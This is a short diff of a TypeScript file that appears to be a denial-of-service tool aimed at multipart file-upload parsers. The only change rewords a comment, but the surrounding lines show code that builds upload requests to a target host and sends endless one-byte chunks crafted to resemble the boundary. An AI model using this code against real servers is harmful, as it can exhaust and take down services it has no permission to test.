@@ -165,7 +165,7 @@ function toUploadHead({ host, key }: Attack['target'], boundary: string, framing
 const toPartHead = (boundary: string) =>
   toRequest([`--${boundary}`, 'Content-Disposition: form-data; name="file"; filename="a.txt"'])
 
-/** One endless upload after the other. Every chunk has one byte, and all bytes of the content begin like the boundary. */
+/** Sends endless uploads. Every chunk has one byte, and all bytes of the content begin like the boundary. */
 async function sendTinyChunks(attack: Attack, boundary: string) {
   const toChunks = (bytes: Buffer) =>
     Buffer.from([...bytes].map((byte) => `1\r\n${String.fromCharCode(byte)}\r\n`).join(''), 'latin1')
